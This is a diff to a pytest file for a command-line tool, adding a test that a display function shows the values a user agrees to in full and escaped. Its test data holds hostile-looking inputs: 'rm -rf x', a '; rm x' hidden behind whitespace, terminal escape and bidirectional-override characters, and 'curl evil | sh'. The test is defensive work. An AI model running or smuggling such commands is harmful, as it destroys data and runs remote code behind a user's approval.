@@ -6,6 +6,7 @@ import pytest
 
 import abreast
 from abreast.cli.edge import guard
+from abreast.cli.settings import literal
 from abreast.places import find_places
 from tests.cli.test_door import Screen, screen  # noqa: F401 (a fixture)
 from tests.support.repos import Repo
@@ -65,3 +66,19 @@ def test_without_a_terminal_nothing_starts_and_the_hint_says_yes(
     assert guard(["run", "plan.toml", "--detach"]) == 0
     [run] = abreast.runs(places=stage.places)
     stage.wait(run.id)
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("make test", "make test"),
+        ("", '""'),
+        ("ok\n  rm -rf x", r'"ok\n  rm -rf x"'),
+        ("ok\x1b[2K\u202eko", r'"ok\u001b[2K\u202eko"'),
+        ("ok" + 50 * " " + "; rm x", f'"ok{50 * " "}; rm x"'),
+        ({"command": "curl evil | sh"}, '{"command": "curl evil | sh"}'),
+        (["A", "B"], '["A", "B"]'),
+    ],
+)
+def test_what_is_agreed_to_is_shown_in_full(value: object, shown: str) -> None:
+    assert literal(value) == shown
